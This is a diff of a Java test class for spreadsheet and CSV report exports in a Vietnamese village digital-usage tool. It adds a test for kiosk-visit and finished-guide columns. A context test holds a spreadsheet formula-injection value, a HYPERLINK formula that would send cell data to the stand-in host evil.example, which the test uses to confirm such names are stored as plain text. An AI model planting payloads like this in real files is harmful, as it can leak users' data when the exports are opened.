@@ -79,6 +79,31 @@ class ReportFilesTest {
     }
 
     @Test
+    void kiosk_visits_and_guides_finished_are_columns_of_both_files() throws Exception {
+        Figures withKiosk = A.withKiosk(new vn.tramso.usage.UsageFigures.Visits(12, 5));
+        Report report = new Report(REPORT.area(), REPORT.period(), List.of(new ReportRow("Hưng Yên", "Xã Hồng Quang", "Thôn Trà Phương",
+                withKiosk)), withKiosk, "lanhdao.hongquang", REPORT.madeAt(), REPORT.dataAsOf());
+        ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
+        ReportFiles.xlsx(report, xlsx);
+        int visits = 3 + 3 * Indicator.KIOSK_VISITS.ordinal();
+        int finished = 3 + 3 * Indicator.GUIDES_FINISHED.ordinal();
+        try (Workbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
+            Row header = book.getSheetAt(0).getRow(ReportFiles.HEADER_ROW);
+            Row tra = book.getSheetAt(0).getRow(ReportFiles.HEADER_ROW + 1);
+            assertThat(header.getCell(visits).getStringCellValue()).isEqualTo("Lượt dùng kiosk – tử số");
+            assertThat(tra.getCell(visits).getNumericCellValue()).isEqualTo(12);
+            assertThat(header.getCell(finished + 2).getStringCellValue()).isEqualTo("Hướng dẫn làm xong – giá trị");
+            assertThat(tra.getCell(finished + 2).getNumericCellValue()).isEqualTo(5);
+        }
+        ByteArrayOutputStream csv = new ByteArrayOutputStream();
+        ReportFiles.csv(report, csv);
+        List<String> lines = csv.toString(StandardCharsets.UTF_8).lines().toList();
+        assertThat(lines.get(6).split(",", -1)[visits]).isEqualTo("Lượt dùng kiosk – tử số");
+        assertThat(lines.get(7).split(",", -1)[visits]).isEqualTo("12");
+        assertThat(lines.get(7).split(",", -1)[finished]).isEqualTo("5");
+    }
+
+    @Test
     void a_village_named_as_a_formula_is_text_in_both_files() throws Exception {
         String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Thôn Trà Phương\")";
         Report report = new Report(REPORT.area(), REPORT.period(), List.of(new ReportRow("Hưng Yên", "Xã Hồng Quang", hyperlink, A)),
@@ -104,6 +129,6 @@ class ReportFilesTest {
     /** Sessions, people, adults with level 2, adults, households, digital households; the rest 0. */
     private static Figures figures(long sessions, long people, long vneid2, long adults, long households, long digital) {
         return new Figures(sessions, people, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, adults, vneid2, vneid2, households, digital,
-                0, 0, 0, 1, sessions == 0 ? 1 : 0, 0, 0);
+                0, 0, 0, 1, sessions == 0 ? 1 : 0, 0, 0, 0, 0);
     }
 }
